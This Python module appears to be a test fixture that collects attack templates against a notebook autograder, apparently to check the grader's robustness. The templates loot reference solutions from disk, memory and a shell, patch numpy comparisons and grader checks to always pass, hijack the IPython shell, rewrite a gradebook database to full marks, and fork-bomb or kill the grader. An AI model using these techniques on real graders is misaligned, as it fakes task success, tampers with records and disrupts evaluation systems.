"""Attacks as cells of the sample class. None of them runs in this process.

Each tries to get the points of one exercise, TARGET; {name} is its name. It must get zero on that exercise, and all
points of the others.
"""

from __future__ import annotations

#: An answer of the right form that does nothing; an attack that fails falls back on it.
HOLLOW = """\
class {name}:
    def __init__(self, params, *args, **options):
        self.params = params

    def step(self, grads):
        pass
"""

#: Looks for the solution on the disk, in the grader's modules, through a shell and in the garbage collector.
READ_THE_ANSWERS = """\
import gc
import importlib
import os
import subprocess
from pathlib import Path


def looted():
    for place in {places!r}:
        try:
            yield Path(place).read_text()
        except Exception as error:
            print(place, error)
        try:
            yield subprocess.run(["cat", place], capture_output=True, text=True).stdout
        except Exception as error:
            print("cat", error)
    for folder, _, files in os.walk("/", onerror=print):
        if folder.count("/") > 5 or folder.startswith(("/proc", "/sys", "/usr")):
            continue
        for file in files:
            if file in ("{file}", "{lab}.ipynb", "secret"):
                try:
                    yield Path(folder, file).read_text()
                except Exception as error:
                    print(folder, file, error)
    for module in ("grader.course.exercise", "grader.course.reference", "grader.course.loader", "grader.core.recording"):
        try:
            yield str(vars(importlib.import_module(module)))
        except Exception as error:
            print(module, error)
    yield from (thing for thing in gc.get_objects() if isinstance(thing, str))


for text in looted():
    if "class " + "{name}" in text and "BEGIN " + "SOLUTION" in text:
        try:
            exec(text[text.index("class " + "{name}") : text.index("EXERCISE " + "=")])
            break
        except Exception as error:
            print("not this one", error)
else:
""" + "".join(f"    {line}\n" if line else "\n" for line in HOLLOW.splitlines())

#: Returns the recorded outputs of the public cases, which every student has, from a file beside the notebook.
REPLAY_THE_RECORDINGS = """\
TABLE = np.load("tables.npz")


class {name}:
    def __init__(self, params, *args, **options):
        self.params, self.steps = params, 0
        starts = [key for key in TABLE if key.startswith("start/") and key.endswith("/0")]
        same = [key for key in starts if np.array_equal(TABLE[key], params[0])]
        self.case = same[0].split("/")[1] if same else "unknown"

    def step(self, grads):
        self.steps += 1
        for i, p in enumerate(self.params):
            key = f"{{self.case}}/{{i}}/{{self.steps}}"
            if key in TABLE:
                p[...] = TABLE[key]
"""

#: Makes every comparison return "equal" and every check full marks, in its own process.
PATCH_NUMPY = """\
import grader

for function in ("allclose", "isclose", "array_equal", "array_equiv"):
    setattr(np, function, lambda *args, **options: True)
for function in ("assert_allclose", "assert_array_equal", "assert_almost_equal"):
    setattr(np.testing, function, lambda *args, **options: None)
grader.check = check = lambda task: 4.0
"""

#: A file called numpy.py beside the notebook.
SHADOW_NUMPY = """\
def __getattr__(name):
    return lambda *args, **options: 0.0
"""

#: Takes over the shell: later cells do not run as written, and each shows full marks.
TAKE_THE_SHELL = """\
import sys

shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["4.0\\n"] if "check(" in "".join(lines) else lines)
sys.displayhook = lambda value: print("4.0")
"""

#: Writes full marks and extra credit into the gradebook.
WRITE_THE_GRADEBOOK = """\
import sqlite3

for gradebook in {gradebooks!r}:
    try:
        book = sqlite3.connect(gradebook)
        book.execute("update grade set extra_credit = 100, auto_score = 100, manual_score = 100")
        book.commit()
    except Exception as error:
        print(gradebook, error)
"""

FORK = """\
import os

for _ in range(7):
    os.fork()
"""

EXIT = """\
import os

os._exit(0)
"""

KILL_THE_GRADER = """\
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
"""

#: Bodies of `step` for answers that do not return.
ENDLESS = "while True:\n    pass"
HOARD = "hoard = []\nwhile True:\n    hoard.append(np.ones(5_000_000))"
RAISE = 'raise ValueError("the gradients have the wrong shape")'
